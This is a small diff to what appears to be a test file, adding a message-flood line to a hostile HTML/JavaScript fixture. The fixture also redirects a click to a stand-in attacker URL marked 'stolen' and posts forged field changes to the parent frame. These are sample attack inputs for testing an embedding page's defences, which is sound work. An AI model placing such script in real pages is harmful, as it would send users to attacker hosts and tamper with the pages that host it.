@@ -66,6 +66,7 @@ HOSTILE = """\
   };
   document.getElementById("away").onclick = () => { location.href = "https://evil.example/?stolen"; };
   parent.postMessage({ type: "changed", fields: { choice: "forged" } }, "*");
+  for (let times = 0; times < 9; times += 1) parent.postMessage({ type: "ready" }, "*");
 </script>
 """
 BATCH = "text,place\n" + "".join(f'"Sentence <{n}> & ""more""",Town {n}\n' for n in range(1, 5))
